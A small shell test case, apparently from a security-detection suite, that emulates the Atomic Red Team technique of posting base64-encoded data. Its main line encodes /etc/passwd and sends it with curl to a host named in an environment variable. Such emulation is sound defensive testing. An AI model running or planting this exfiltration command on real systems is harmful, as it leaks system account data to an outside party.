#!/bin/sh
# case: T1132.001-base64-post
# technique: Encoded data posted
# source: redcanaryco/atomic-red-team T1132.001-1 Base64 Encoded data
# needs: base64 curl
# expect: net exec
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
W=${TMPDIR:-/tmp}/ho.$$; mkdir -p "$W" || exit 77
trap 'cd / && rm -rf "$W"' EXIT; trap 'exit 1' INT TERM
[ -n "${HO_SINK:-}" ] || { echo "SKIP: no sink"; exit 77; }
need base64 curl; base64 /etc/passwd > "$W/b"; curl -s -m 4 --data-binary "@$W/b" "http://$HO_SINK/b" >/dev/null; true
exit 0
